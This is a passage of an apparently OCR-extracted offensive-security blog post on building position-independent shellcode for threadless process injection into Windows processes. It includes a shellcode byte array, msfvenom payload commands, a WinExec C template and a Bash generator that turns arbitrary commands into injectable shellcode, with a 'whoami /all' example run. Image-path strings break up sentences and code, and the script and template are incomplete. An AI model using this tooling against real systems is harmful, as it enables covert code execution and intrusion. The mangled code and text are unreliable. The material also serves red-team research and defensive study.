In this blog I will describe a way to automate generation of Position Independent Shellcodes from object files in memory (by@NinjaParanoid) to be used in Threadless Process Injection (by @_EthicalChaos_).


Function Stomping / Threadless Injection

One of the items from my endless TODO-list that I never crossed out was the topic of Function Stomping by Ido Veltzman. Luckily, Ceri Coburn presented an awesome research on Threadless Process Injection accompanying a ready-to-use injector in C# which made me get back to that long-forgotten TODO.

Pop-the-Calc Shellcode

While playing with ThreadlessInject and porting itto the DInvoke API, one of the obviousdesires of mine was to test it with a different shellcode. As a Proof-of-Concept Ceri provides a classic Pop-the-Calc shellcode which works smoothly but may not beenough during a real engagement:

PS > $notepadId = (Start-Process notepad -PassThru).Id; .\ThreadlessInject.exe -p $notepadId -d kernel32.dll -e OpenProcess


Hackers looove popping calcs!

Well, what will a hacker do to generate a shellcode? Summon msfvenom, of course:

~$ msfvenom -p windows/x64/exec CMD=calc.exe -f raw -o msf-calc.bin

Providing the msf-calc.bin shellcode to ThreadlessInject.exe with -x option expectedly results in exiting the target process after calc has been spawned:

PS > $notepadId = (Start-Process notepad -PassThru).Id; .\ThreadlessInject.exe -x .\msf-calc.bin -p $notepadId -d kernel32.dll -e OpenProcessUnwanted termination of parent process with MSF shellcode

Changing the EXITFUNC= option during the generation process doesn’t seem to be helpful:

~$ msfvenom -p windows/x64/exec CMD=calc.exe EXITFUNC=none -f raw -o msf-calc-none.bin
~$ msfvenom -p windows/x64/exec CMD=calc.exe EXITFUNC=process -f raw -o msf-calc-process.bin
~$ msfvenom -p windows/x64/exec CMD=calc.exe EXITFUNC=thread -f raw -o msf-calc-thread.bin

It’s a known thing that MSF-exec payloads are better to be started from a fresh thread ‘cause the shellcode doesn’t treat the stack gently. Furthermore, a hint about the required shellcode behavior is kindly left by the author of ThreadlessInject in the comments:

// x64 calc shellcode function with ret as default if no shellcode supplied
static byte[] x64 = {
    0x53, 0x56, 0x57, 0x55, 0x54, 0x58, 0x66, 0x83, 0xE4, 0xF0, 0x50, 0x6A,
    0x60, 0x5A, 0x68, 0x63, 0x61, 0x6C, 0x63, 0x54, 0x59, 0x48, 0x29, 0xD4,
    0x65, 0x48, 0x8B, 0x32, 0x48, 0x8B, 0x76, 0x18, 0x48, 0x8B, 0x76, 0x10,
    0x48, 0xAD, 0x48, 0x8B, 0x30, 0x48, 0x8B, 0x7E, 0x30, 0x03, 0x57,0x3C,
    0x8B, 0x5C, 0x17, 0x28, 0x8B, 0x74, 0x1F, 0x20, 0x48, 0x01, 0xFE, 0x8B,
    0x54, 0x1F, 0x24, 0x0F, 0xB7, 0x2C, 0x17, 0x8D, 0x52, 0x02, 0xAD, 0x81,
    0x3C, 0x07, 0x57, 0x69, 0x6E, 0x45, 0x75, 0xEF, 0x8B, 0x74, 0x1F,0x1C,
    0x48, 0x01, 0xFE, 0x8B, 0x34, 0xAE, 0x48, 0x01, 0xF7, 0x99, 0xFF, 0xD7,
    0x48, 0x83, 0xC4, 0x68, 0x5C, 0x5D, 0x5F, 0x5E, 0x5B, 0xC3 };

That is to say, the ret instruction should be supplied when the shellcode’s job is done in order to return the execution flow back to the caller (i. e., the assembly stub) as well as proper stack alignment should be performed with registers preserved. So let’s take a look at both shellcodes side-by-side with objdump.


Comparing calc shellcodes

As we can see no ret is observed within the MSF shellcode… Dunno whether the dynamic way of MSF generator puts the CMD= value onto the stack (via thatcall rbp instruction) does also negatively impacts our situation but we definitely don’t get desired behavior – the parent process dies.

So what can we do about it?

Where’s the Detonator Generator?

Honestly, I don’t know any other FOSS shellcode generator besides msfvenom so I started to google :man_shrugging: Btw, the builtin default shellcode for ThreadlessInject is as old as time and can be found in numerous GitHub repos and gists.

Among other things, I considered the following options:

  • Look for less-known open source shellcode generators for Windows x64 – failed due to a total lack of them (though win-x86-shellcoder seems to be a nice project for x86).
  • Use an existing Pop-the-Calc .asm file as template for generating a WinExec shellcode with an arbitrary argument (OS command) – failed due to me being lazy. Good examples of such ‘static’ calc shellcodes (with a static lpCmdLine argument for WinExec) are win-exec-calc-shellcode and x64win-DynamicNoNull-WinExec-PopCalc-Shellcode by Bobby Cooke.
  • Play with popular PE → shellcode techniques like sRDI, donut, pe_to_shellcode, etc.

While testing the 3rd option I came along this terrific article by @KlezVirusFrom Process Injection to Function Hijacking – which coversFunction Stomping topic in great depth (one more blogpost in my TODOs).

As I was looking for a quick example to be used with ThreadlessInject, my attention was caught by one of the references to another blog of maldev magician Chetan NayakExecuting Position Independent Shellcode from Object Files in Memory– which we shall focus on further.

:information_source: The same technique is used by Aleksandra Doniec in pe_to_shellcode and by @KlezVirus in inceptor.

PIC from Object Files

In his blog Chetan provides a way to build a C function with a small assembly stub for proper stack alignment and returning to the caller gracefully.

In order to make sure that our shellcode is always stack aligned, we will write a small assembly stub which will align the stack and call our C function which would act as our entrypoint. We will convert this assembly code to an object file which we will later link to our C source code. – Chetan Nayak (@NinjaParanoid)


alignstack assembly stub (

With the ability to dynamically resolve exported symbols of WinExec (which resides within kernel32.dll) we can extract the opcodes from the compiled binary and use them as a Position Independent shellcode. That’s exactly what we need!

I shall git clone his demo repository and write a template to execute a command of my choice using WinExec based on the given example of constructing the getprivs function:

// template.c#include "addresshunter.h"
#include <stdio.h>


void exec() {
    UINT64 kernel32dll;
    UINT64 WinExecFunc;

    kernel32dll = GetKernel32();

    CHAR winexec_c[] = {'W','i','n','E','x','e','c', 0};
    WinExecFunc = GetSymbolAddress((HANDLE)kernel32dll, winexec_c);

    CHAR cmd_c[] = {'<CMD>', 0};
    ((WINEXEC)WinExecFunc)(cmd_c, <SHOWWINDOW>);

Then with a bit of Bash automation we get a working alternative for the MSF windows/x64/exec CMD= -f raw payload generator:

#!/usr/bin/env bash

# Usage:
# Examples:
# 'calc.exe' 10
# 'cmd /c "whoami /all" > C:\Windows\Tasks\out.txt' 0

SHOWWINDOW="${2}"  #

CMD=`echo "${CMD}" | grep -o . | sed -e ':a;N;$!ba;s/\n/\x27,\x27/g'`

cat template.c | sed "s#<CMD>#${CMD}#g" | sed "s#<SHOWWINDOW>#${SHOWWINDOW}#g" > exec.c#cat exec.c | grep cmd_c

nasm -f win64 adjuststack.asm -o adjuststack.o

x86_64-w64-mingw32-gcc exec.c -Wall -m64 -ffunction-sections -fno-asynchronous-unwind-tables -nostdlib -fno-ident-O2 -c -o exec.o -Wl,-Tlinker.ld,--no-seh

x86_64-w64-mingw32-ld -s adjuststack.o exec.o -o exec.exe

echo -e `for i in $(objdump -d exec.exe | grep "^ " | cut -f2); do echo -n "\x$i"; done` > exec.binif [[ -f exec.bin ]]; then
    echo "[*] Payload size: `stat -c%s exec.bin`bytes"
    echo "[+] Saved as: exec.bin"

rm exec.exe exec.o exec.c adjuststack.o

Generate and execute:

~$ ./ 'cmd /c "whoami/all" > C:\Windows\Tasks\out.txt' 0
[*] Payload size: 640 bytes
[+] Saved as:exec.bin


Execution ofthe customly generatedshellcode

Happy hacking!